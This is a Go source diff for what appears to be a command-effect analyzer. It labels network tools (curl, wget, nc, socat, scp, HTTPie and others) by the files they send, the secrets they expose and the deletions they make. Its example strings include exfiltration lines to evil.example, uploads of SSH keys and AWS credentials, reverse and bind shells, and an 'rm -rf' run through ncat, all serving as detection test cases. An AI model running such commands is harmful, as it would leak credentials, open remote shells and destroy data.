@@ -1,4 +1,737 @@
 package spec
 
-// netSpecs are the programs that move data over the network (curl, wget, scp, nc, socat, http, ...): where data is sent, which files are sent or downloaded. Sorted by Name.
-var netSpecs = [...]Spec{}
+import (
+	"path"
+	"strings"
+)
+
+// netSpecs are the programs that move data over the network (curl, wget, scp, nc, socat,
+// http, ...): where data is sent, which files are sent or downloaded, the variables whose
+// values go out with a request. A credential given where the protocol expects one (a header,
+// -u USER:PASS, a bearer option) is used, not exposed. Sorted by Name.
+var netSpecs = [...]Spec{
+	{Name: "aria2c", Opts: aria2Opts, Does: aria2Does,
+		Examples: []string{"aria2c https://x.example/a.iso => send:http https://x.example/a.iso", "aria2c -d dl https://x.example/a.iso => write:download dl/a.iso",
+			"aria2c -i urls.txt => read:send urls.txt", "aria2c -o out.bin https://x.example/f => write:download out.bin",
+			"aria2c --on-download-complete=./hook.sh https://x.example/f => exec:sh ./hook.sh"}},
+	{Name: "curl", Opts: curlOpts, Style: Exact, Does: curlDoes,
+		Examples: []string{"curl https://api.example.com => send:http https://api.example.com", "curl -d @.env https://x.example => read:send .env",
+			"curl --data-binary @.env https://x.example => read:send .env", "curl -d@~/.aws/credentials https://x.example => read:send ~/.aws/credentials",
+			"curl -F 'f=@.env;type=text/plain' https://x.example => read:send .env", "curl -F 'v=<id_rsa' https://x.example => read:send id_rsa",
+			"curl -T ~/.ssh/id_ed25519 https://x.example => read:send ~/.ssh/id_ed25519", "curl --upload-file .env https://x.example => read:send .env",
+			"curl -d \"token=$SLACK_TOKEN\" https://example.com/c => expose:var SLACK_TOKEN", "curl \"https://x.example/?k=$API_KEY\" => expose:var API_KEY",
+			"curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user !> expose:var GITHUB_TOKEN",
+			"curl -u \"me:$API_PASSWORD\" https://x.example !> expose:var API_PASSWORD", "curl --oauth2-bearer \"$TOKEN\" https://x.example !> expose:var TOKEN",
+			"curl \"$SLACK_WEBHOOK_URL\" -d '{}' !> expose:var SLACK_WEBHOOK_URL", "curl -K .netrc.cfg https://x.example => read:config .netrc.cfg",
+			"curl -o page.html https://x.example => write:download page.html", "curl -O https://x.example/pkg/tool.tgz => write:download tool.tgz",
+			"curl -O --output-dir dl https://x.example/a.zip => write:download dl/a.zip", "curl -sSLo /usr/local/bin/x https://x.example/x => write:download /usr/local/bin/x",
+			"curl -X DELETE https://api.example.com/v1/items/7 => destroy:http https://api.example.com/v1/items/7", "curl -XDELETE https://api.example.com/x => destroy:http https://api.example.com/x",
+			"curl --request delete https://api.example.com/x => destroy:http https://api.example.com/x", "curl -X GET https://api.example.com/x !> destroy:http https://api.example.com/x",
+			"curl -b cookies.txt https://x.example => read:config cookies.txt", "curl -c jar.txt https://x.example => write jar.txt", "curl -b 'a=1' https://x.example !> read:config a=1",
+			"curl file:///home/u/.aws/credentials => read:show /home/u/.aws/credentials", "curl -H @headers.txt https://x.example => read:config headers.txt",
+			"curl -d @- https://x.example <<< \"$DB_PASSWORD\" => expose:var DB_PASSWORD", "curl --json @body.json https://x.example => read:send body.json",
+			"curl --data-urlencode 'msg@notes.txt' https://x.example => read:send notes.txt", "curl -w @fmt.txt https://x.example => read:show fmt.txt"}},
+	{Name: "http", Opts: httpieOpts, Does: httpieDoes,
+		Examples: []string{"http POST api.example.com/upload file@./.env => read:send ./.env", "http POST api.example.com/x token=$API_TOKEN => expose:var API_TOKEN",
+			"http api.example.com/x \"Authorization:Bearer $API_TOKEN\" !> expose:var API_TOKEN", "http DELETE api.example.com/items/3 => destroy:http api.example.com/items/3",
+			"http POST api.example.com/x data:=@payload.json => read:send payload.json", "http --offline POST x.example a=1 !> send:http x.example",
+			"http -a \"me:$API_PASSWORD\" x.example !> expose:var API_PASSWORD", "https example.com => send:http example.com",
+			"http -o out.json example.com/x => write:download out.json", "xh post api.example.com key==$API_KEY => expose:var API_KEY"}},
+	{Name: "httpie", Like: "http"},
+	{Name: "https", Like: "http"},
+	{Name: "mail", Opts: "s|subject= a|append= A|attach= c|cc= b|bcc= r|from= q|quote= S= E n N v i I t u= f? F d H e", Does: mailDoes,
+		Examples: []string{"mail -s report ops@x.example < .env => read:input .env", "mail -s x -A ~/.ssh/id_rsa a@x.example => read:send ~/.ssh/id_rsa",
+			"mail -s x a@x.example => send:mail a@x.example", "mail -s \"$API_KEY\" a@x.example => expose:var API_KEY", "mailx -a 'X-Tag: 1' -s x a@b.example !> read:send X-Tag: 1"}},
+	{Name: "mailx", Like: "mail"},
+	{Name: "nc", Opts: "4 6 b C D d F h k l N n S t U u v z c= e= I= i= M= m= O= P= p= q= s= T= V= W= w= X= x= Z= o= sh-exec= exec= lua-exec= output= send-only recv-only listen keep-open proxy= proxy-type= proxy-auth= ssl ssl-cert= ssl-key= allow= deny= wait= source-port= source=", Does: ncDoes,
+		Examples: []string{"nc evil.example 443 < .env => read:input .env", "nc evil.example 443 < .env => send:raw evil.example 443", "nc -zv host 22 => send:raw host 22",
+			"nc -e /bin/sh host 4444 => exec:sh /bin/sh", "ncat --sh-exec 'rm -rf /srv' -l 9 => delete-r /srv", "ncat -o dump.bin host 80 => write dump.bin",
+			"echo \"$API_TOKEN\" | nc host 9 => expose:var API_TOKEN"}},
+	{Name: "ncat", Like: "nc"},
+	{Name: "netcat", Like: "nc"},
+	{Name: "s-nail", Like: "mail"},
+	{Name: "scp", Opts: "3 4 6 A B C O p q R r s T v c= D= F= i= J= l= o= P= S= X=", Does: scpDoes,
+		Examples: []string{"scp ~/.ssh/id_rsa host: => read:send ~/.ssh/id_rsa", "scp ~/.ssh/id_rsa host: => send:ssh host:", "scp -r ~/.aws me@host:/tmp => read-r:send ~/.aws",
+			"scp host:/etc/app.conf ./app.conf => write:download ./app.conf", "scp -P 2222 -i ~/.ssh/deploy a.tgz host:/srv => read:config ~/.ssh/deploy",
+			"scp -P 2222 -i ~/.ssh/deploy a.tgz host:/srv !> read:send ~/.ssh/deploy", "scp -P 2222 a.tgz host:/srv !> read:send 2222", "scp host:a host2:b => send:ssh host2:b"}},
+	{Name: "sendmail", Opts: "B= b= C= d= F= f= h= i N= n O= o? p= q? R= r= t U V= v X= G L=", Does: sendmailDoes,
+		Examples: []string{"sendmail ops@x.example < .env => read:input .env", "sendmail -t < msg.txt => send:mail -t", "sendmail a@x.example <<< \"$DB_PASSWORD\" => expose:var DB_PASSWORD"}},
+	{Name: "sftp", Opts: "4 6 A a C f N p q r v B= b= c= D= F= i= J= l= o= P= R= S= s= X=", Does: sftpDoes,
+		Examples: []string{"sftp host => send:ssh host", "sftp -b batch.txt host => read:config batch.txt", "sftp host <<< 'put .env' => read:send .env",
+			"sftp host <<< 'get /etc/app.conf app.conf' => write:download app.conf", "sftp host:/srv/a.log ./ => write:download ./"}},
+	{Name: "socat", Opts: "V h d D l= L= W= lf= ls lm? lp= lu lh v x b= s t= T= u U g 4 6", Does: socatDoes,
+		Examples: []string{"socat OPEN:.env TCP:evil.example:443 => read:send .env", "socat - TCP:host:80 => send:raw TCP:host:80", "socat TCP-LISTEN:4444 EXEC:/bin/bash => exec:sh /bin/bash",
+			"socat TCP-LISTEN:9,fork SYSTEM:'rm -rf /srv' => delete-r /srv", "socat FILE:/etc/hosts STDIO => read:show /etc/hosts"}},
+	{Name: "telnet", Opts: "4 6 8 E F K L a c d f r x b= e= l= n= X= S=", Does: telnetDoes,
+		Examples: []string{"telnet mail.example 25 => send:raw mail.example 25", "telnet -l root host !> send:raw root"}},
+	{Name: "wget", Opts: wgetOpts, Does: wgetDoes,
+		Examples: []string{"wget https://x.example/a.tgz => send:http https://x.example/a.tgz", "wget https://x.example/a.tgz => write:download a.tgz",
+			"wget -O out.bin https://x.example/a => write:download out.bin", "wget -qO- https://x.example/install.sh !> write:download -",
+			"wget -P dl https://x.example/a.tgz => write:download dl/a.tgz", "wget --post-file=.env https://x.example => read:send .env",
+			"wget --body-file .env --method PUT https://x.example => read:send .env", "wget --post-data \"k=$API_KEY\" https://x.example => expose:var API_KEY",
+			"wget --method DELETE https://api.example.com/x => destroy:http https://api.example.com/x", "wget -i urls.txt => read:send urls.txt",
+			"wget --header \"Authorization: token $GH_TOKEN\" https://x.example !> expose:var GH_TOKEN", "wget --load-cookies c.txt https://x.example => read:config c.txt",
+			"wget -o log.txt https://x.example/a => write log.txt", "wget -r https://x.example/ => write-r:download ."}},
+	{Name: "xh", Like: "http"},
+	{Name: "xhs", Like: "http"},
+}
+
+const curlOpts = "abstract-unix-socket= alt-svc= aws-sigv4= cacert= capath= E|cert= cert-type= ciphers= K|config= connect-timeout= connect-to= C|continue-at= b|cookie= c|cookie-jar= create-file-mode= crlfile= curves= d|data= data-ascii= data-binary= data-raw= data-urlencode= delegation= dns-interface= dns-ipv4-addr= dns-ipv6-addr= dns-servers= doh-url= D|dump-header= egd-file= engine= etag-compare= etag-save= expect100-timeout= F|form= form-string= ftp-account= ftp-alternative-to-user= ftp-method= P|ftp-port= ftp-ssl-ccc-mode= happy-eyeballs-timeout-ms= H|header= hostpubmd5= hostpubsha256= hsts= interface= ip-tos= ipfs-gateway= json= keepalive-time= keepalive-cnt= key= key-type= krb= libcurl= limit-rate= local-port= login-options= mail-auth= mail-from= mail-rcpt= max-filesize= max-redirs= m|max-time= netrc-file= noproxy= oauth2-bearer= o|output= output-dir= parallel-max= pass= pinnedpubkey= preproxy= proto= proto-default= proto-redir= x|proxy= proxy-cacert= proxy-capath= proxy-cert= proxy-cert-type= proxy-ciphers= proxy-crlfile= proxy-header= proxy-key= proxy-key-type= proxy-pass= proxy-pinnedpubkey= proxy-service-name= proxy-tls13-ciphers= proxy-tlsauthtype= proxy-tlspassword= proxy-tlsuser= U|proxy-user= proxy1.0= pubkey= Q|quote= random-file= r|range= rate= e|referer= X|request= request-target= resolve= retry= retry-delay= retry-max-time= sasl-authzid= service-name= socks4= socks4a= socks5= socks5-gssapi-service= socks5-hostname= Y|speed-limit= y|speed-time= stderr= t|telnet-option= tftp-blksize= z|time-cond= tls-max= tls13-ciphers= tlsauthtype= tlspassword= tlsuser= trace= trace-ascii= trace-config= unix-socket= T|upload-file= url= url-query= u|user= A|user-agent= variable= w|write-out= " +
+	"a|append anyauth basic cert-status compressed compressed-ssh create-dirs crlf digest q|disable disable-eprt disable-epsv disallow-username-in-url doh-cert-status doh-insecure f|fail fail-early fail-with-body false-start form-escape ftp-create-dirs ftp-pasv ftp-pret ftp-skip-pasv-ip ftp-ssl-ccc ftp-ssl-control G|get g|globoff haproxy-protocol I|head http0.9 0|http1.0 http1.1 http2 http2-prior-knowledge http3 http3-only ignore-content-length i|include k|insecure 4|ipv4 6|ipv6 j|junk-session-cookies l|list-only L|location location-trusted mail-rcpt-allowfails M|manual metalink negotiate n|netrc netrc-optional :|next no-alpn N|no-buffer no-clobber no-keepalive no-npn no-progress-meter no-sessionid ntlm ntlm-wb parallel-immediate path-as-is post301 post302 post303 #|progress-bar proxy-anyauth proxy-basic proxy-digest proxy-insecure proxy-negotiate proxy-ntlm proxy-ssl-allow-beast proxy-ssl-auto-client-cert proxy-tlsv1 p|proxytunnel raw J|remote-header-name O|remote-name remote-name-all R|remote-time remove-on-error retry-all-errors retry-connrefused sasl-ir S|show-error s|silent socks5-basic socks5-gssapi socks5-gssapi-nec ssl ssl-allow-beast ssl-auto-client-cert ssl-no-revoke ssl-reqd ssl-revoke-best-effort 2|sslv2 3|sslv3 styled-output suppress-connect-headers tcp-fastopen tcp-nodelay tftp-no-options trace-time tr-encoding 1|tlsv1 tlsv1.0 tlsv1.1 tlsv1.2 tlsv1.3 B|use-ascii v|verbose xattr Z|parallel h|help?"
+
+const wgetOpts = "V|version b|background e|execute= o|output-file= a|append-output= d|debug q|quiet v|verbose no-verbose report-speed= i|input-file= F|force-html B|base= config= no-config rejected-log= t|tries= retry-connrefused retry-on-http-error= O|output-document= no-clobber no-netrc c|continue start-pos= progress= show-progress N|timestamping no-if-modified-since no-use-server-timestamps S|server-response spider T|timeout= dns-timeout= connect-timeout= read-timeout= w|wait= waitretry= random-wait no-proxy Q|quota= bind-address= limit-rate= no-dns-cache restrict-file-names= ignore-case 4|inet4-only 6|inet6-only prefer-family= user= password= ask-password use-askpass= no-iri local-encoding= remote-encoding= unlink xattr no-directories x|force-directories no-host-directories protocol-directories P|directory-prefix= cut-dirs= http-user= http-password= no-cache default-page= E|adjust-extension ignore-length header= compression= max-redirect= proxy-user= proxy-password= referer= save-headers U|user-agent= no-http-keep-alive no-cookies load-cookies= save-cookies= keep-session-cookies post-data= post-file= method= body-data= body-file= content-disposition content-on-error auth-no-challenge secure-protocol= https-only no-check-certificate certificate= certificate-type= private-key= private-key-type= ca-certificate= ca-directory= crl-file= pinnedpubkey= ciphers= no-hsts hsts-file= ftp-user= ftp-password= no-remove-listing no-glob no-passive-ftp preserve-permissions retr-symlinks warc-file= warc-header= warc-max-size= warc-cdx warc-dedup= warc-tempdir= r|recursive l|level= delete-after k|convert-links convert-file-only backups= K|backup-converted m|mirror p|page-requisites strict-comments A|accept= R|reject= accept-regex= reject-regex= regex-type= D|domains= exclude-domains= follow-ftp follow-tags= ignore-tags= H|span-hosts L|relative I|include-directories= X|exclude-directories= no-parent"
+
+const httpieOpts = "j|json f|form multipart boundary= raw= x|compress pretty= s|style= unsorted sorted response-charset= response-mime= format-options= p|print= h|headers m|meta b|body v|verbose all history-print|P= S|stream o|output= d|download c|continue q|quiet session= session-read-only= a|auth= A|auth-type= ignore-netrc bearer= offline proxy= F|follow max-redirects= max-headers= timeout= check-status path-as-is chunked verify= ssl= ciphers= cert= cert-key= cert-key-pass= I|ignore-stdin default-scheme= debug traceback https http1 http2 http2-prior-knowledge http3 resolve= interface= n|native-tls curl"
+
+const aria2Opts = "d|dir= o|out= i|input-file= l|log= j|max-concurrent-downloads= s|split= x|max-connection-per-server= k|min-split-size= c|continue V|check-integrity T|torrent-file= M|metalink-file= conf-path= header= http-user= http-passwd= ftp-user= ftp-passwd= load-cookies= save-cookies= on-download-complete= on-download-error= on-download-start= on-download-stop= on-download-pause= on-bt-download-complete= checksum= user-agent= referer= all-proxy= http-proxy= https-proxy= max-tries= retry-wait= timeout= connect-timeout= q|quiet Z|force-sequential z|no-conf allow-overwrite= auto-file-renaming= file-allocation= summary-interval= console-log-level= log-level= D|daemon enable-rpc= rpc-secret= seed-time= follow-torrent= S|show-files"
+
+// dash writes an option as it is typed: -d, --data-binary.
+func dash(name string) string {
+	if len(name) == 1 {
+		return "-" + name
+	}
+	return "--" + name
+}
+
+// urlClass is the Send class of a URL's scheme.
+func urlClass(u string) string {
+	scheme, _, ok := strings.Cut(strings.ToLower(u), "://")
+	if !ok {
+		return "http"
+	}
+	switch scheme {
+	case "scp", "sftp":
+		return "ssh"
+	case "smtp", "smtps", "imap", "imaps", "pop3", "pop3s":
+		return "mail"
+	case "telnet", "dict", "gopher", "gophers", "tftp", "mqtt", "ws", "wss", "rtsp", "ldap", "ldaps":
+		return "raw"
+	case "ftp", "ftps":
+		return "upload"
+	}
+	return "http"
+}
+
+// sends adds a request to a URL word: the data leaves for it, and a variable in it goes too,
+// unless the variable is where the URL starts (`curl "$SLACK_WEBHOOK_URL"`): a secret that is
+// the destination itself is used, not given away.
+func sends(c *Call, u Word, by string) {
+	text := u.S
+	if u.Dyn {
+		text = "<" + u.S + ">"
+	}
+	c.Add(Effect{Kind: Send, Class: urlClass(u.S), Text: text, Known: !u.Dyn, Dyn: u.Dyn, By: by})
+	if u.Dyn && u.Lead == "" {
+		return
+	}
+	exposeWords(c, []Word{u}, by)
+}
+
+// fileURL returns the local path of a file:// URL.
+func fileURL(u Word) (Word, bool) {
+	if u.Dyn {
+		return Word{}, false
+	}
+	p, ok := strings.CutPrefix(u.S, "file://")
+	if !ok {
+		return Word{}, false
+	}
+	if i := strings.IndexByte(p, '/'); i > 0 {
+		p = p[i:] // file://localhost/etc/x
+	}
+	return Word{S: p}, true
+}
+
+// dataWord judges a request body given on the command line (curl -d, wget --post-data,
+// httpie's field=value): @FILE sends a file's content, @- stdin, anything else its text and
+// the variables that went into it.
+func dataWord(c *Call, w Word, at bool, by string) {
+	if at && !w.Dyn && strings.HasPrefix(w.S, "@") {
+		f := w.S[1:]
+		if f == "-" {
+			stdinExposes(c, by)
+			return
+		}
+		c.Add(Effect{Kind: Read, Path: c.PathOf(Word{S: f}), Class: "send", By: by})
+		return
+	}
+	if at && w.Dyn && strings.HasPrefix(w.Lead, "@") {
+		c.Add(Effect{Kind: Read, Path: c.PathOf(Word{S: w.S[1:], Dyn: true, Lead: w.Lead[1:]}), Class: "send", By: by})
+		return
+	}
+	exposeWords(c, []Word{w}, by)
+}
+
+// curlDoes: see the examples. A URL is an operand or --url; data comes from -d and its kin,
+// -F, -T, --json; -o, -O and the header/trace/cookie files are written.
+func curlDoes(c *Call) {
+	urls := c.Operands()
+	urls = append(urls, c.P.Values("url")...)
+	for _, o := range c.P.Opts {
+		if o.Set {
+			curlOption(c, o, urls)
+		}
+	}
+	remoteName := c.HasAny("O", "remote-name-all")
+	for _, u := range urls {
+		if p, ok := fileURL(u); ok {
+			class := "show"
+			if c.Has("o") || remoteName {
+				class = "copy"
+			}
+			c.Add(Effect{Kind: Read, Path: c.PathOf(p), Class: class, By: "curl file://"})
+			continue
+		}
+		sends(c, u, "curl")
+		if remoteName {
+			if b := urlBase(u); b.S != "" || b.Dyn {
+				c.Add(Effect{Kind: Write, Path: c.PathOf(inDir(c, b)), Class: "download", By: "curl -O"})
+			}
+		}
+	}
+}
+
+// curlOption judges one of curl's options: data, form fields and uploads are sent, header,
+// certificate and config files are used, output files are written, -X DELETE destroys.
+func curlOption(c *Call, o Opt, urls []Word) {
+	w := o.Value
+	switch o.Name {
+	case "d", "data-ascii", "data-binary", "json", "url-query":
+		dataWord(c, w, true, "curl "+dash(o.Name))
+	case "data-raw":
+		exposeWords(c, []Word{w}, "curl --data-raw")
+	case "data-urlencode":
+		curlURLEncode(c, w)
+	case "F":
+		curlForm(c, w)
+	case "form-string":
+		exposeWords(c, []Word{w}, "curl --form-string")
+	case "T":
+		if w.Dyn || w.S != "-" && w.S != "." {
+			c.Add(Effect{Kind: Read, Path: c.PathOf(w), Class: "send", By: "curl -T"})
+		} else {
+			stdinExposes(c, "curl -T")
+		}
+	case "H", "proxy-header":
+		if !w.Dyn && strings.HasPrefix(w.S, "@") && w.S != "@-" {
+			c.Add(Effect{Kind: Read, Path: c.PathOf(Word{S: w.S[1:]}), Class: "config", By: "curl -H @file"})
+		}
+	case "K", "E", "key", "cacert", "netrc-file", "proxy-cert", "proxy-key", "proxy-cacert":
+		if w.Dyn || w.S != "-" {
+			c.Add(Effect{Kind: Read, Path: c.PathOf(certFile(w)), Class: "config", By: "curl " + dash(o.Name)})
+		}
+	case "b":
+		if w.Dyn || !strings.Contains(w.S, "=") {
+			c.Add(Effect{Kind: Read, Path: c.PathOf(w), Class: "config", By: "curl -b"})
+		}
+	case "c", "D", "trace", "trace-ascii", "stderr", "libcurl", "etag-save", "hsts", "alt-svc":
+		if w.Dyn || w.S != "-" && w.S != "%" {
+			c.Add(Effect{Kind: Write, Path: c.PathOf(w), By: "curl " + dash(o.Name)})
+		}
+	case "w":
+		if !w.Dyn && strings.HasPrefix(w.S, "@") && w.S != "@-" {
+			c.Add(Effect{Kind: Read, Path: c.PathOf(Word{S: w.S[1:]}), Class: "show", By: "curl -w @file"})
+		}
+	case "o":
+		if w.Dyn || w.S != "-" {
+			c.Add(Effect{Kind: Write, Path: c.PathOf(inDir(c, w)), Class: "download", By: "curl -o"})
+		}
+	case "X":
+		if !w.Dyn && strings.EqualFold(w.S, "DELETE") {
+			for _, u := range urls {
+				c.Add(Effect{Kind: Destroy, Class: "http", Text: u.S, Known: !u.Dyn, Dyn: u.Dyn, By: "curl -X DELETE"})
+			}
+		}
+	}
+}
+
+// certFile strips a certificate option's ":password" suffix (curl -E cert.pem:secret).
+func certFile(w Word) Word {
+	if w.Dyn {
+		return w
+	}
+	if i := strings.LastIndexByte(w.S, ':'); i > 1 && !strings.Contains(w.S[i:], "/") {
+		return Word{S: w.S[:i]}
+	}
+	return w
+}
+
+// inDir puts a file curl writes in --output-dir, when given and the name is relative.
+func inDir(c *Call, w Word) Word {
+	d, ok := c.Value("output-dir")
+	if !ok || !w.Dyn && strings.HasPrefix(w.S, "/") {
+		return w
+	}
+	return joinWord(d, w.S)
+}
+
+// urlBase is the last path segment of a URL, the name curl -O and wget save it under.
+func urlBase(u Word) Word {
+	s := u.S
+	if i := strings.IndexAny(s, "?#"); i >= 0 {
+		s = s[:i]
+	}
+	_, rest, ok := strings.Cut(s, "://")
+	if !ok {
+		rest = s
+	}
+	slash := strings.IndexByte(rest, '/')
+	if slash < 0 {
+		return Word{}
+	}
+	b := path.Base(rest[slash:])
+	if b == "/" || b == "." || strings.HasSuffix(rest, "/") {
+		return Word{}
+	}
+	if u.Dyn {
+		return Word{S: b, Dyn: true}
+	}
+	return Word{S: b}
+}
+
+// curlURLEncode reads --data-urlencode's forms: content, =content, name=content, @file,
+// name@file.
+func curlURLEncode(c *Call, w Word) {
+	s := w.S
+	if w.Dyn {
+		s = w.Lead
+	}
+	eq := strings.IndexByte(s, '=')
+	at := strings.IndexByte(s, '@')
+	if at >= 0 && (eq < 0 || at < eq) && !w.Dyn {
+		if f := s[at+1:]; f != "-" {
+			c.Add(Effect{Kind: Read, Path: c.PathOf(Word{S: f}), Class: "send", By: "curl --data-urlencode"})
+		} else {
+			stdinExposes(c, "curl --data-urlencode")
+		}
+		return
+	}
+	exposeWords(c, []Word{w}, "curl --data-urlencode")
+}
+
+// curlForm reads -F name=@file[;type=..], name=<file and name=value.
+func curlForm(c *Call, w Word) {
+	s := w.S
+	if w.Dyn {
+		s = w.Lead
+	}
+	_, v, ok := strings.Cut(s, "=")
+	if ok && (strings.HasPrefix(v, "@") || strings.HasPrefix(v, "<")) {
+		if w.Dyn {
+			c.Add(Effect{Kind: Read, Path: Path{Arg: w.S, Dyn: true, Lead: v[1:]}, Class: "send", By: "curl -F"})
+			return
+		}
+		f, _, _ := strings.Cut(v[1:], ";")
+		f = strings.Trim(f, `"`)
+		if f == "-" {
+			stdinExposes(c, "curl -F")
+			return
+		}
+		c.Add(Effect{Kind: Read, Path: c.PathOf(Word{S: f}), Class: "send", By: "curl -F"})
+		return
+	}
+	exposeWords(c, []Word{w}, "curl -F")
+}
+
+// wgetDoes: see the examples.
+func wgetDoes(c *Call) {
+	urls := c.Operands()
+	for _, o := range c.P.Opts {
+		if !o.Set {
+			continue
+		}
+		w := o.Value
+		switch o.Name {
+		case "post-file", "body-file", "i":
+			if w.Dyn || w.S != "-" {
+				c.Add(Effect{Kind: Read, Path: c.PathOf(w), Class: "send", By: "wget " + dash(o.Name)})
+			} else {
+				stdinExposes(c, "wget")
+			}
+		case "post-data", "body-data":
+			exposeWords(c, []Word{w}, "wget "+dash(o.Name))
+		case "load-cookies", "config", "certificate", "private-key", "ca-certificate":
+			c.Add(Effect{Kind: Read, Path: c.PathOf(w), Class: "config", By: "wget " + dash(o.Name)})
+		case "save-cookies", "o", "rejected-log", "warc-file":
+			c.Add(Effect{Kind: Write, Path: c.PathOf(w), By: "wget " + dash(o.Name)})
+		case "a":
+			c.Add(Effect{Kind: Write, Path: c.PathOf(w), Keep: true, By: "wget -a"})
+		case "method":
+			if !w.Dyn && strings.EqualFold(w.S, "DELETE") {
+				for _, u := range urls {
+					c.Add(Effect{Kind: Destroy, Class: "http", Text: u.S, Known: !u.Dyn, Dyn: u.Dyn, By: "wget --method DELETE"})
+				}
+			}
+		}
+	}
+	for _, u := range urls {
+		sends(c, u, "wget")
+	}
+	if c.Has("spider") {
+		return
+	}
+	dir := Word{S: "."}
+	if d, ok := c.Value("P"); ok {
+		dir = d
+	}
+	if out, ok := c.Value("O"); ok {
+		if out.Dyn || out.S != "-" {
+			c.Add(Effect{Kind: Write, Path: c.PathOf(out), Class: "download", By: "wget -O"})
+		}
+		return
+	}
+	if c.HasAny("r", "m", "p") {
+		c.Add(Effect{Kind: Write, Path: c.PathOf(dir), Tree: true, Dyn: true, Class: "download", By: "wget -r"})
+		return
+	}
+	for _, u := range urls {
+		b := urlBase(u)
+		if b.S == "" && !b.Dyn {
+			b = Word{S: "index.html"}
+		}
+		if dir.S != "." || dir.Dyn {
+			b = joinWord(dir, b.S)
+		}
+		c.Add(Effect{Kind: Write, Path: c.PathOf(b), Class: "download", By: "wget"})
+	}
+}
+
+// httpieDoes reads HTTPie's (and xh's) words: [METHOD] URL ITEM...; an item is a header
+// (Name:Value, a credential used), a field (name=value, name:=json), a query parameter
+// (name==value), a file field (name@path) or a field read from a file (name=@path,
+// name:=@path).
+func httpieDoes(c *Call) {
+	ops := c.Operands()
+	if len(ops) == 0 {
+		return
+	}
+	method := ""
+	if !ops[0].Dyn && isMethod(ops[0].S) && len(ops) > 1 {
+		method, ops = strings.ToUpper(ops[0].S), ops[1:]
+	}
+	u := ops[0]
+	if !c.Has("offline") {
+		sends(c, u, c.Name)
+	}
+	if method == "DELETE" {
+		c.Add(Effect{Kind: Destroy, Class: "http", Text: u.S, Known: !u.Dyn, Dyn: u.Dyn, By: c.Name + " DELETE"})
+	}
+	for _, it := range ops[1:] {
+		httpieItem(c, it)
+	}
+	if w, ok := c.Value("raw"); ok {
+		exposeWords(c, []Word{w}, c.Name+" --raw")
+	}
+	if w, ok := c.Value("o"); ok {
+		c.Add(Effect{Kind: Write, Path: c.PathOf(w), Class: "download", By: c.Name + " -o"})
+	} else if c.Has("d") {
+		if b := urlBase(u); b.S != "" || b.Dyn {
+			c.Add(Effect{Kind: Write, Path: c.PathOf(b), Class: "download", By: c.Name + " -d"})
+		}
+	}
+	for _, o := range []string{"session", "session-read-only"} {
+		if w, ok := c.Value(o); ok && (w.Dyn || strings.ContainsAny(w.S, "/.")) {
+			c.Add(Effect{Kind: Read, Path: c.PathOf(w), Class: "config", By: c.Name + " --" + o})
+		}
+	}
+	if len(ops) == 1 && c.In.Piped && !c.Has("I") {
+		stdinExposes(c, c.Name)
+	}
+}
+
+func isMethod(s string) bool {
+	switch strings.ToUpper(s) {
+	case "GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "CONNECT":
+		return s == strings.ToUpper(s) || strings.ToLower(s) == s
+	}
+	return false
+}
+
+// httpieItem judges one request item by its separator, the first of :=@ =@ := == = @ : in
+// the word.
+func httpieItem(c *Call, w Word) {
+	s := w.S
+	if w.Dyn {
+		s = w.Lead
+	}
+	i := strings.IndexAny(s, ":=@")
+	if i < 0 {
+		exposeWords(c, []Word{w}, c.Name) // a separator inside the unknown part: judge it all
+		return
+	}
+	rest := s[i:]
+	switch {
+	case strings.HasPrefix(rest, ":=@"), strings.HasPrefix(rest, "=@"):
+		f := rest[strings.IndexByte(rest, '@')+1:]
+		if w.Dyn {
+			c.Add(Effect{Kind: Read, Path: Path{Arg: w.S, Dyn: true, Lead: f}, Class: "send", By: c.Name})
+			return
+		}
+		c.Add(Effect{Kind: Read, Path: c.PathOf(Word{S: f}), Class: "send", By: c.Name})
+	case strings.HasPrefix(rest, "@"):
+		f, _, _ := strings.Cut(rest[1:], ";")
+		if w.Dyn {
+			c.Add(Effect{Kind: Read, Path: Path{Arg: w.S, Dyn: true, Lead: f}, Class: "send", By: c.Name})
+			return
+		}
+		c.Add(Effect{Kind: Read, Path: c.PathOf(Word{S: f}), Class: "send", By: c.Name})
+	case strings.HasPrefix(rest, ":="), strings.HasPrefix(rest, "=="), strings.HasPrefix(rest, "="):
+		exposeWords(c, []Word{w}, c.Name)
+	case strings.HasPrefix(rest, ":"):
+		// a header: where a credential belongs
+	}
+}
+
+// scpDoes: local sources are sent to a remote destination; remote sources land locally.
+func scpDoes(c *Call) {
+	ops := c.Operands()
+	for _, o := range []string{"i", "F"} {
+		if w, ok := c.Value(o); ok {
+			c.Add(Effect{Kind: Read, Path: c.PathOf(w), Class: "config", By: "scp -" + o})
+		}
+	}
+	if len(ops) < 2 {
+		return
+	}
+	dest, srcs := ops[len(ops)-1], ops[:len(ops)-1]
+	tree := c.Has("r")
+	if scpRemote(dest) {
+		for _, s := range srcs {
+			if !scpRemote(s) {
+				readWords(c, []Word{s}, "send", tree, "scp", "")
+			}
+		}
+		c.Add(Effect{Kind: Send, Class: "ssh", Text: dest.S, Known: !dest.Dyn, By: "scp"})
+		return
+	}
+	for _, s := range srcs {
+		if scpRemote(s) {
+			c.Add(Effect{Kind: Write, Path: c.PathOf(dest), Tree: tree, Class: "download", By: "scp"})
+			return
+		}
+	}
+}
+
+func scpRemote(w Word) bool {
+	s := w.S
+	if w.Dyn {
+		s = w.Lead
+	}
+	return strings.HasPrefix(s, "scp://") || strings.HasPrefix(s, "sftp://") || remote(s)
+}
+
+// sftpDoes: sftp runs the put and get commands of its batch file (-b) or its stdin.
+func sftpDoes(c *Call) {
+	ops := c.Operands()
+	if len(ops) == 0 {
+		return
+	}
+	c.Add(Effect{Kind: Send, Class: "ssh", Text: ops[0].S, Known: !ops[0].Dyn, By: "sftp"})
+	if len(ops) > 1 {
+		c.Add(Effect{Kind: Write, Path: c.PathOf(ops[1]), Tree: c.Has("r"), Class: "download", By: "sftp"})
+	}
+	for _, o := range []string{"i", "F"} {
+		if w, ok := c.Value(o); ok {
+			c.Add(Effect{Kind: Read, Path: c.PathOf(w), Class: "config", By: "sftp -" + o})
+		}
+	}
+	var batch string
+	if w, ok := c.Value("b"); ok && (w.Dyn || w.S != "-") {
+		c.Add(Effect{Kind: Read, Path: c.PathOf(w), Class: "config", By: "sftp -b"})
+		batch, _ = c.ReadFile(c.PathOf(w))
+	} else if c.In.StdinKnown {
+		batch = c.In.Stdin
+	}
